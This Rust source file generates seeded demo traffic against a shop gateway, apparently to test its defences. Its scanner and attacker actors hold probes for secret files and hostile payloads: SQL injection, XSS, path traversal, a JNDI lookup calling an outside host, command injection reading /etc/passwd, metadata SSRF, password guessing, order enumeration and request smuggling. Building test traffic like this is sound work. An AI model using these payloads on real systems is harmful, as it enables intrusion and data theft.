//! The demo's traffic: people who shop, partners, a flash crowd, crawlers, scanners and an attacker. Every actor draws from a
//! seed of its own, so that two runs do the same things, if not at the same moments.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use fastrand::Rng;
use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::client::{Ask, Client};

/// What the actors have done.
#[derive(Default)]
pub struct Done {
    /// Requests by actor: shoppers, partners, crowd, crawlers, scanners, attacker.
    pub by_actor: [AtomicU64; Actor::ALL.len()],
    /// Answers by hundreds of status; the first counts requests without an answer.
    pub by_class: [AtomicU64; 6],
}

impl Done {
    fn count(&self, actor: Actor, status: u16) {
        if let Some(counter) = self.by_actor.get(actor as usize) {
            counter.fetch_add(1, Ordering::Relaxed);
        }
        if let Some(counter) = self.by_class.get(usize::from(status / 100).min(5)) {
            counter.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Who sends.
#[derive(Clone, Copy, Debug)]
pub enum Actor {
    /// People with sessions.
    Shopper,
    /// Services of others, over SOAP and gRPC.
    Partner,
    /// Many people at once for one product.
    Crowd,
    /// Search engines.
    Crawler,
    /// Programs that look for known weaknesses.
    Scanner,
    /// Somebody who means this shop.
    Attacker,
}

impl Actor {
    /// Every actor.
    pub const ALL: [Self; 6] =
        [Self::Shopper, Self::Partner, Self::Crowd, Self::Crawler, Self::Scanner, Self::Attacker];

    /// The actor's name in the summary.
    pub const fn name(self) -> &'static str {
        match self {
            Self::Shopper => "shoppers",
            Self::Partner => "partners",
            Self::Crowd => "flash crowd",
            Self::Crawler => "crawlers",
            Self::Scanner => "scanners",
            Self::Attacker => "attacker",
        }
    }
}

/// A number that stands for a text (FNV-1a), the same in every run.
pub fn fingerprint(text: &str) -> u64 {
    text.bytes().fold(0xcbf2_9ce4_8422_2325, |hash, byte| (hash ^ u64::from(byte)).wrapping_mul(0x100_0000_01b3))
}

/// One actor at work.
struct Act {
    actor: Actor,
    rng: Rng,
    client: Client,
    done: Arc<Done>,
}

impl Act {
    async fn ask(&mut self, ask: Ask) -> (u16, Bytes) {
        let (status, body) = self.client.send(ask).await;
        self.done.count(self.actor, status);
        (status, body)
    }

    async fn think(&mut self, mean_ms: u64) {
        // Exponential pauses, cut at five times the mean.
        let factor = (-(1.0 - self.rng.f64()).ln()).min(5.0);
        tokio::time::sleep(Duration::from_secs_f64(mean_ms as f64 * factor / 1_000.0)).await;
    }
}

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "LanternShop/4.2 (iPhone; iOS 18.1)",
];

/// Starts every actor against the gateway at `target`. Dropping the set ends them.
pub fn start(target: SocketAddr, seed: u64, done: &Arc<Done>) -> JoinSet<()> {
    let mut actors = JoinSet::new();
    let act = |actor: Actor, number: u64, address: String, agent: &str| Act {
        actor,
        rng: Rng::with_seed(seed ^ (actor as u64) << 32 ^ number.wrapping_mul(0x9e37_79b9_7f4a_7c15)),
        client: Client::new(target, address, agent),
        done: Arc::clone(done),
    };
    for number in 0..24 {
        let agent = BROWSERS.get(number as usize % BROWSERS.len()).copied().unwrap_or_default();
        actors.spawn(shopper(act(Actor::Shopper, number, format!("198.51.100.{}", 10 + number), agent), number));
    }
    actors.spawn(partner_soap(act(Actor::Partner, 0, "192.0.2.10".to_owned(), "Parcels-Client/2.1 (Java 21)")));
    actors.spawn(partner_grpc(act(Actor::Partner, 1, "192.0.2.11".to_owned(), "grpc-go/1.68.0")));
    actors.spawn(live(act(Actor::Shopper, 900, "198.51.100.200".to_owned(), BROWSERS[0]), target));
    for number in 0..30 {
        let agent = BROWSERS.get(number as usize % 3).copied().unwrap_or_default();
        actors.spawn(crowd(act(Actor::Crowd, number, format!("203.0.113.{}", 10 + number), agent)));
    }
    let google = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    actors.spawn(crawler(act(Actor::Crawler, 0, "66.249.66.1".to_owned(), google)));
    let bing = "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)";
    actors.spawn(crawler(act(Actor::Crawler, 1, "157.55.39.1".to_owned(), bing)));
    actors.spawn(scanner(act(Actor::Scanner, 0, "45.9.20.30".to_owned(), "Mozilla/5.0 zgrab/0.x")));
    actors.spawn(scanner(act(
        Actor::Scanner,
        1,
        "45.9.20.31".to_owned(),
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    )));
    actors.spawn(attacker(act(Actor::Attacker, 0, "185.220.101.7".to_owned(), "python-requests/2.32"), target));
    actors
}

/// Comes, looks around, mostly logs in, sometimes buys.
async fn shopper(mut act: Act, number: u64) {
    let pages = act.client.agent().starts_with("Mozilla");
    let mut visit = 0;
    loop {
        visit += 1;
        if pages {
            for path in ["/", "/static/app.css", "/static/app.js", "/static/img/hero.webp"] {
                act.ask(Ask::page(path)).await;
            }
        }
        act.think(300).await;
        let email = format!("user{number}@example.com");
        let password = if act.rng.u8(..12) == 0 { "mistyped" } else { "correct horse" };
        let (status, _) = act.ask(Ask::post("/api/v1/login", json!({"email": email, "password": password}))).await;
        act.client.token = (status == 200).then(|| format!("{:016x}", fingerprint(&email)));
        act.ask(Ask::get("/api/v1/users/me")).await;
        browse(&mut act).await;
        if act.client.token.is_some() && act.rng.u8(..3) > 0 {
            buy(&mut act, number * 1_000 + visit).await;
        }
        act.client.token = None;
        act.think(1_500).await;
    }
}

async fn browse(act: &mut Act) {
    for page in 1..=act.rng.u32(1..4) {
        let category = *act.rng.choice(&["light", "garden", "tools", "kitchen"]).unwrap_or(&"light");
        act.ask(Ask::get(&format!("/api/v1/products?page={page}&limit=20&category={category}"))).await;
        act.think(250).await;
        // A few products get most of the looks.
        let id = (5_000.0 * act.rng.f64().powi(4)) as u32 + 1;
        act.ask(Ask::get(&format!("/api/v1/products/{id}"))).await;
        match act.rng.u8(..6) {
            0 => drop(act.ask(Ask::get(&format!("/api/v1/products/{id}/reviews"))).await),
            1 => drop(act.ask(Ask::get(&format!("/api/v1/search?q=lantern+{}", id % 40))).await),
            2 => {
                let query = "query Product($id: Int!) { product(id: $id) { id name price { amount } } }";
                let body = json!({"operationName": "Product", "query": query, "variables": {"id": id}});
                act.ask(Ask::post("/graphql", body)).await;
            }
            // An old version of the app still asks the old way.
            3 if !act.client.agent().starts_with("Mozilla") => {
                drop(act.ask(Ask::get(&format!("/api/v0/products/{id}"))).await)
            }
            4 if act.client.token.is_some() => {
                let review = json!({"stars": act.rng.u8(1..=5), "text": "gives a warm light; would buy again"});
                act.ask(Ask::post(&format!("/api/v1/products/{id}/reviews"), review)).await;
            }
            _ => {}
        }
        act.think(350).await;
    }
}

async fn buy(act: &mut Act, number: u64) {
    let cart = uuid(number);
    for _ in 0..act.rng.u8(1..4) {
        let sku = format!("SKU-{:05}", act.rng.u32(1..5_000));
        let item = json!({"sku": sku, "quantity": act.rng.u8(1..4)});
        act.ask(Ask::post(&format!("/api/v1/carts/{cart}/items"), item)).await;
        act.think(200).await;
    }
    act.ask(Ask::get(&format!("/api/v1/carts/{cart}/items"))).await;
    let (status, body) = act.ask(Ask::post("/api/v1/orders", json!({ "cart": cart }))).await;
    let order = serde_json::from_slice::<serde_json::Value>(&body).unwrap_or_default();
    if status == 201
        && let Some(id) = member(&order, "id").as_u64()
    {
        act.think(200).await;
        act.ask(Ask::post(&format!("/api/v1/orders/{id}/payments"), json!({"method": "card"}))).await;
        act.ask(Ask::get(&format!("/api/v1/orders/{id}"))).await;
        if act.rng.u8(..4) == 0 {
            act.ask(Ask::get(&format!("/api/v1/orders/{id}/invoice"))).await;
        }
    }
    act.ask(Ask::get(&format!("/api/v1/users/{}", uuid(number / 1_000)))).await;
}

fn uuid(number: u64) -> String {
    let a = fingerprint(&number.to_string());
    let b = fingerprint(&format!("{a}/{number}"));
    format!(
        "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
        a >> 32,
        a & 0xffff,
        b >> 52,
        (b >> 40) & 0xfff,
        b & 0xffff_ffff_ffff
    )
}

async fn partner_soap(mut act: Act) {
    loop {
        let operation = if act.rng.u8(..4) == 0 { "CreateShipment" } else { "GetRates" };
        let inside = format!("<{operation} xmlns=\"urn:shipping\"><zip>10115</zip><grams>850</grams></{operation}>");
        act.ask(Ask::soap(operation, &inside)).await;
        act.think(700).await;
    }
}

async fn partner_grpc(mut act: Act) {
    loop {
        let operation = if act.rng.u8(..3) == 0 { "ReserveStock" } else { "GetStock" };
        let product = act.rng.u8(1..120);
        act.ask(Ask::grpc(&format!("/shop.v1.Inventory/{operation}"), product)).await;
        act.think(400).await;
    }
}

/// Long connections: server-sent events and a WebSocket.
async fn live(mut act: Act, target: SocketAddr) {
    loop {
        act.ask(Ask::get("/api/v1/events")).await;
        let status = websocket(target).await.unwrap_or(0);
        act.done.count(act.actor, status);
        act.think(2_000).await;
    }
}

async fn websocket(target: SocketAddr) -> std::io::Result<u16> {
    let mut stream = TcpStream::connect(target).await?;
    let head = "GET /ws/chat HTTP/1.1\r\nHost: shop.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
                Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nUser-Agent: LanternShop/4.2\r\n\r\n";
    stream.write_all(head.as_bytes()).await?;
    let mut answer = [0u8; 1024];
    let count = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer)).await??;
    let status = status_of(answer.get(..count).unwrap_or_default());
    for _ in 0..3 {
        // A masked text frame that says "hi"; the mask is zero.
        stream.write_all(&[0x81, 0x82, 0, 0, 0, 0, b'h', b'i']).await?;
        let mut echo = [0u8; 4];
        tokio::time::timeout(Duration::from_secs(5), stream.read_exact(&mut echo)).await??;
    }
    stream.write_all(&[0x88, 0x80, 0, 0, 0, 0]).await?;
    Ok(status)
}

/// A lamp was in the news: everybody looks at the same product and searches for it, for a third of every minute.
async fn crowd(mut act: Act) {
    tokio::time::sleep(Duration::from_secs(6)).await;
    loop {
        for _ in 0..40 {
            act.ask(Ask::get("/api/v1/products/4711")).await;
            act.ask(Ask::get("/api/v1/search?q=lantern+from+the+news")).await;
            act.think(180).await;
        }
        tokio::time::sleep(Duration::from_secs(40)).await;
    }
}

async fn crawler(mut act: Act) {
    act.ask(Ask::page("/robots.txt")).await;
    loop {
        let page = act.rng.u32(1..400);
        act.ask(Ask::page(&format!("/shop/lantern-no-{page}"))).await;
        if act.rng.u8(..20) == 0 {
            act.ask(Ask::page("/feeds/products.xml")).await;
        }
        act.think(500).await;
    }
}

async fn scanner(mut act: Act) {
    const PATHS: [&str; 20] = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/xmlrpc.php",
        "/phpmyadmin/index.php",
        "/admin/",
        "/server-status",
        "/actuator/env",
        "/api/swagger.json",
        "/v2/_catalog",
        "/cgi-bin/luci",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/config.json",
        "/backup.sql",
        "/.aws/credentials",
        "/solr/admin/info/system",
        "/owa/auth/logon.aspx",
        "/boaform/admin/formLogin",
        "/remote/login",
        "/api/v1/../../etc/passwd",
    ];
    loop {
        for path in PATHS {
            act.ask(Ask::page(path)).await;
            tokio::time::sleep(Duration::from_millis(40)).await;
        }
        act.think(12_000).await;
    }
}

/// Injection, somebody else's orders, guessed passwords, secrets of accounts, and requests two readers would frame differently.
async fn attacker(mut act: Act, target: SocketAddr) {
    const VALUES: [&str; 8] = [
        "%27%20OR%20%271%27%3D%271",
        "1%20UNION%20SELECT%20username,password%20FROM%20users--",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%24%7Bjndi:ldap://203.0.113.66/a%7D",
        ";cat%20/etc/passwd",
        "%7B%7B7*7%7D%7D",
        "http://169.254.169.254/latest/meta-data/",
    ];
    loop {
        for value in VALUES {
            act.ask(Ask::get(&format!("/api/v1/search?q={value}"))).await;
            act.think(120).await;
        }
        let body = json!({"query": "query { __schema { types { name } } }"});
        act.ask(Ask::post("/graphql", body)).await;
        for guess in ["123456", "password", "qwerty", "letmein", "dragon", "monkey"] {
            act.ask(Ask::post("/api/v1/login", json!({"email": "admin@example.com", "password": guess}))).await;
        }
        act.client.token = Some("00000000deadbeef".to_owned());
        for id in 0..25 {
            act.ask(Ask::get(&format!("/api/v1/orders/{}", 100_000 + id * 7))).await;
        }
        act.ask(Ask::get(&format!("/api/v1/users/{}/export", uuid(1)))).await;
        act.ask(Ask::post("/api/v1/admin/coupons", json!({"code": "FREE", "percent": 100}))).await;
        act.client.token = None;
        for raw in [
            "POST /api/v1/login HTTP/1.1\r\nHost: shop.example.com\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "GET / HTTP/1.1\r\nHost: shop.example.com\r\nHost: admin.example.com\r\n\r\n",
            "GET /api/v1/products HTTP/1.1\r\nX-Forwarded-Host : evil\r\n\r\n",
        ] {
            let status = raw_request(target, raw).await.unwrap_or(0);
            act.done.count(act.actor, status);
        }
        act.think(6_000).await;
    }
}

async fn raw_request(target: SocketAddr, raw: &str) -> std::io::Result<u16> {
    let mut stream = TcpStream::connect(target).await?;
    stream.write_all(raw.as_bytes()).await?;
    let mut answer = [0u8; 256];
    let count = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer)).await??;
    Ok(status_of(answer.get(..count).unwrap_or_default()))
}

fn status_of(answer: &[u8]) -> u16 {
    let code = answer.get(9..12).and_then(|digits| std::str::from_utf8(digits).ok());
    code.and_then(|code| code.parse().ok()).unwrap_or(0)
}

/// A member of an object; null where there is none.
fn member<'v>(value: &'v serde_json::Value, name: &str) -> &'v serde_json::Value {
    value.get(name).unwrap_or(&serde_json::Value::Null)
}
